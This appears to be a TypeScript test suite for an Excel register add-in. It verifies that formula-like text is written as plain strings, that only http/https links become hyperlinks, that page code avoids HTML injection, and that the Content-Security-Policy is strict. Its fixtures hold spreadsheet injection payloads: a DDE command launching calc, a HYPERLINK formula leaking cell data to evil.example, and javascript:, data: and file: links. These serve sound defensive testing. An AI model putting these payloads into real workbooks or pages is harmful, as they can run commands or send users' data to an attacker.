/**
 * Nothing active: register text that a spreadsheet would take for a formula (=, +, -, @, a leading tab or
 * line break) is written as text by both writers, and only absolute http and https links become hyperlinks.
 */
import { spawnSync } from "node:child_process";
import { readdirSync, readFileSync, statSync } from "node:fs";
import { join } from "node:path";
import type { CellValue, IsoDate, WorkbookGrid } from "../../src/core/grid";
import type { Register } from "../../src/core/model";
import { parseWorkbook } from "../../src/core/parse";
import { summarize } from "../../src/core/summarize";
import { createExcelRegisterApi } from "../../src/excel";
import { layoutAnnexes, layoutSummarySheet } from "../../src/layout";
import type { SheetLayout } from "../../src/layout/model";
import { createMemoryExcel } from "../../dev/memory-excel";
import { writeWorkbookWithSheets } from "../../src/xlsx/write";
import { aGrid, linkCell, type RowSpec } from "../fixtures";
import { tempFolder } from "../xlsx/read/fixtures";
import { packageParts } from "./workbook-hash";
import { writeSpecXlsx } from "./write-xlsx";
import { AS_OF } from "./run-cli";
import { problemText } from "../fixtures/problem";

const asOf = AS_OF as IsoDate;

/** What Excel would run or evaluate if it were typed into a cell. */
export const ACTIVE_TEXTS = [
  "=1+1",
  '=HYPERLINK("http://evil.example/?"&A1,"Click for details")',
  "=cmd|' /C calc'!A0",
  "+SUM(1,2)",
  "-2+3",
  "@SUM(1,2)",
  "\t=1+1",
  "\r\n=1+1",
  "\n+1",
  "=",
  "-",
  "'=1+1",
] as const;

/** Link texts: only the first two may become hyperlinks. */
const LINKS: readonly CellValue[] = [
  "https://www.unjiu.org/content/reports/2021-1",
  linkCell("JIU report", "http://www.unjiu.org/content/reports/2021-2"),
  "javascript:alert(document.cookie)",
  linkCell("Open", "javascript:alert(1)"),
  "file:///C:/Windows/System32/calc.exe",
  "data:text/html,<script>alert(1)</script>",
  "/content/reports/relative",
  "www.unjiu.org/content/reports",
  "mailto:jiu@un.org",
  "\\\\server\\share\\report.pdf",
  " https://www.unjiu.org/content/reports/2021-11 ",
  "HTTPS://WWW.UNJIU.ORG/content/reports/2021-12",
];
const HTTP_LINK = /^https?:\/\/[^\s/?#]+/i;

/** One outstanding recommendation per active text, each in its own report so that each report's links show. */
function hostileRows(): RowSpec[] {
  return ACTIVE_TEXTS.map((text, i) => ({
    reportSymbol: `JIU/REP/2021/${i + 1}`,
    reportTitle: text,
    reportLink: LINKS[i % LINKS.length] ?? null,
    recommendationText: text,
    assessment: `${text} (assessment)`,
    implementation: "In progress",
    previousImplementation: "In progress",
    responsible: text,
    cebComments: LINKS[(i + 3) % LINKS.length] ?? null,
    otherDocuments: LINKS[(i + 7) % LINKS.length] ?? null,
  }));
}

function registerOf(grid: WorkbookGrid): Register {
  const outcome = parseWorkbook(grid);
  if (!outcome.ok) throw new Error(problemText(outcome.problem).message);
  return outcome.register;
}

function layoutsOf(register: Register, lang: "en" | "zh"): SheetLayout[] {
  const summary = summarize(register, asOf);
  return [layoutSummarySheet(summary, lang), ...layoutAnnexes(register, summary, lang)];
}

function stringsOf(layouts: readonly SheetLayout[]): string[] {
  return layouts.flatMap((layout) => layout.values.flat().filter((v): v is string => typeof v === "string"));
}

describe("nothing active", () => {
  const grid = aGrid(hostileRows());
  const register = registerOf(grid);

  it("the register's active texts reach the generated sheets (so the checks below are not empty)", () => {
    const strings = stringsOf(layoutsOf(register, "en")).join("\n");
    for (const text of ["=1+1", "+SUM(1,2)", "@SUM(1,2)", "-2+3", "=cmd|' /C calc'!A0"])
      expect(strings).toContain(text);
  });

  describe.each(["en", "zh"] as const)("through the .xlsx writer (%s)", (lang) => {
    const folder = tempFolder("jiu-hostile-active-");
    let parts = new Map<string, Buffer>();
    let layouts: SheetLayout[] = [];
    let generatedSheetParts: string[] = [];
    beforeAll(async () => {
      const input = await writeSpecXlsx(
        { sheets: [{ name: "Register", cells: grid.sheets[0]?.cells ?? [] }] },
        folder.path("in.xlsx"),
      );
      layouts = layoutsOf(register, lang);
      await writeWorkbookWithSheets(input, folder.path("out.xlsx"), layouts);
      parts = await packageParts(folder.path("out.xlsx"));
      const inputParts = await packageParts(input);
      generatedSheetParts = [...parts.keys()].filter(
        (name) => /^xl\/worksheets\/sheet\d+\.xml$/.test(name) && !inputParts.has(name),
      );
    });
    afterAll(() => folder.dispose());

    it("writes no formula at all in the generated sheets", () => {
      expect(generatedSheetParts).toHaveLength(layouts.length);
      for (const name of generatedSheetParts) {
        const xml = parts.get(name)?.toString("utf8") ?? "";
        expect([name, /<(\w+:)?f[\s>/]/.test(xml)]).toEqual([name, false]);
        expect([name, /\bt="str"/.test(xml)]).toEqual([name, false]);
      }
    });

    it("writes every text exactly as the layout has it, as a string cell", () => {
      const xml = generatedSheetParts.map((name) => parts.get(name)?.toString("utf8") ?? "").join("");
      const shared = parts.get("xl/sharedStrings.xml")?.toString("utf8") ?? "";
      const decode = (text: string) =>
        text
          .replace(/&#xD;/g, "\r")
          .replace(/&lt;/g, "<")
          .replace(/&gt;/g, ">")
          .replace(/&quot;/g, '"')
          .replace(/&apos;/g, "'")
          .replace(/&amp;/g, "&");
      const written = new Set(
        [...`${xml}${shared}`.matchAll(/<t(?: [^>]*)?>([^<]*)<\/t>/g)].map((match) => decode(match[1] ?? "")),
      );
      for (const text of stringsOf(layouts)) expect([text, written.has(text)]).toEqual([text, true]);
    });

    it("makes hyperlinks only of absolute http and https addresses", () => {
      const targets = [...parts.entries()]
        .filter(([name]) =>
          generatedSheetParts.some(
            (sheet) => name === sheet.replace("worksheets/", "worksheets/_rels/") + ".rels",
          ),
        )
        .flatMap(([, bytes]) =>
          [...bytes.toString("utf8").matchAll(/Target="([^"]*)"[^>]*TargetMode="External"/g)].map(
            (m) => m[1] ?? "",
          ),
        );
      expect(targets.length).toBeGreaterThan(0);
      for (const target of targets) expect(target).toMatch(HTTP_LINK);
      expect(targets.join(" ")).not.toMatch(/javascript:|file:|data:|mailto:/i);
    });
  });

  describe.each(["en", "zh"] as const)("through the adapter on the in-memory Excel (%s)", (lang) => {
    it("writes no formula, every text exactly as the layout has it, and only http and https links", async () => {
      const excel = createMemoryExcel(grid, { limits: { requestBytes: null, responseBytes: null } });
      const api = createExcelRegisterApi(excel.run);
      const summary = await api.generateSummary({ asOf, language: lang, force: true });
      const annexes = await api.generateAnnex({ asOf, language: lang, force: true });
      const layouts = layoutsOf(register, lang);
      const names = [...summary.sheets, ...annexes.sheets];
      expect(names).toEqual(layouts.map((layout) => layout.name));
      let links = 0;
      layouts.forEach((layout, i) => {
        const snapshot = excel.snapshot(names[i] ?? "");
        const byPlace = new Map(snapshot.cells.map((cell) => [`${cell.row}:${cell.column}`, cell]));
        for (const cell of snapshot.cells) {
          expect([snapshot.name, cell.row, cell.column, cell.formula]).toEqual([
            snapshot.name,
            cell.row,
            cell.column,
            null,
          ]);
          if (cell.hyperlink) {
            links += 1;
            expect(cell.hyperlink.address ?? "").toMatch(HTTP_LINK);
            expect(cell.hyperlink.documentReference).toBeUndefined();
          }
        }
        layout.values.forEach((row, r) =>
          row.forEach((value, c) => {
            if (value === null || value === "") return;
            expect([snapshot.name, r, c, byPlace.get(`${r}:${c}`)?.value]).toEqual([
              snapshot.name,
              r,
              c,
              value,
            ]);
          }),
        );
      });
      expect(links).toBeGreaterThan(0);
    });
  });
});

describe("the task pane and the preview render register text as text", () => {
  const root = join(__dirname, "..", "..");
  function sourceFiles(dir: string): string[] {
    return readdirSync(dir).flatMap((name) => {
      const path = join(dir, name);
      return statSync(path).isDirectory() ? sourceFiles(path) : /\.(tsx?|html)$/.test(name) ? [path] : [];
    });
  }
  const files = ["src/taskpane", "dev/preview", "src/commands"].flatMap((dir) =>
    sourceFiles(join(root, dir)),
  );

  it("no page code injects HTML or evaluates strings", () => {
    expect(files.length).toBeGreaterThan(10);
    const offenders = files.flatMap((file) => {
      const text = readFileSync(file, "utf8");
      return [
        /dangerouslySetInnerHTML/,
        /\.innerHTML\b/,
        /\.outerHTML\b/,
        /insertAdjacentHTML/,
        /document\.write/,
        /\beval\(/,
        /new Function\(/,
      ]
        .filter((pattern) => pattern.test(text))
        .map((pattern) => `${file.slice(root.length + 1)}: ${pattern.source}`);
    });
    expect(offenders).toEqual([]);
  });

  it.each(["src/taskpane/Probe.tsx", "dev/preview/Probe.tsx"])(
    "the lint rule rejects dangerouslySetInnerHTML in %s",
    (file) => {
      const probe =
        "export function Probe({ text }: { text: string }) {\n  return <div dangerouslySetInnerHTML={{ __html: text }} />;\n}\n";
      const result = spawnSync(
        process.execPath,
        [
          join(root, "node_modules", "eslint", "bin", "eslint.js"),
          "--stdin",
          "--stdin-filename",
          file,
          "--format",
          "json",
        ],
        { cwd: root, input: probe, encoding: "utf8" },
      );
      const [report] = JSON.parse(result.stdout) as {
        messages: { ruleId: string | null; message: string; severity: number }[];
      }[];
      expect(report?.messages).toEqual(
        expect.arrayContaining([
          expect.objectContaining({
            ruleId: "no-restricted-syntax",
            severity: 2,
            message: expect.stringContaining("rendered as text"),
          }),
        ]),
      );
    },
    30_000,
  );
});

describe("the pages' Content-Security-Policy", () => {
  const root = join(__dirname, "..", "..");
  interface PagePlugin {
    readonly userOptions: {
      readonly filename: string;
      readonly template: string;
      readonly templateParameters: { readonly csp: string };
    };
  }
  type WebpackConfig = (env: unknown, argv: { mode: string }) => { plugins: unknown[] };
  // webpack.config.js is CommonJS without types: required, as webpack itself loads it.
  // eslint-disable-next-line @typescript-eslint/no-require-imports
  const webpackConfig = require(join(root, "webpack.config.js")) as WebpackConfig;
  // The preview build holds every page: the add-in's own and the preview.
  const config = webpackConfig({ preview: true }, { mode: "production" });
  const pages = config.plugins.filter(
    (plugin): plugin is PagePlugin =>
      typeof (plugin as PagePlugin).userOptions?.templateParameters?.csp === "string",
  );

  it("every page carries it in a meta element", () => {
    expect(pages.map((page) => page.userOptions.filename).sort()).toEqual(
      expect.arrayContaining(["commands.html", "help.html", "preview.html", "taskpane.html"]),
    );
    for (const page of pages) {
      const template = readFileSync(page.userOptions.template, "utf8");
      expect(template).toMatch(/<meta http-equiv="Content-Security-Policy" content="<%= csp %>"/);
    }
  });

  it.each(["default-src", "script-src", "connect-src", "frame-src"])(
    "%s allows only the add-in's own origin and Office's script host",
    (directive) => {
      for (const page of pages) {
        const policy = new Map(
          page.userOptions.templateParameters.csp.split(";").map((part) => {
            const [name = "", ...sources] = part.trim().split(/\s+/);
            return [name, sources] as const;
          }),
        );
        const sources = policy.get(directive);
        expect([page.userOptions.filename, directive, sources !== undefined]).toEqual([
          page.userOptions.filename,
          directive,
          true,
        ]);
        for (const source of sources ?? [])
          expect(["'self'", "https://appsforoffice.microsoft.com"]).toContain(source);
        expect(policy.get("object-src")).toEqual(["'none'"]);
      }
    },
  );
});
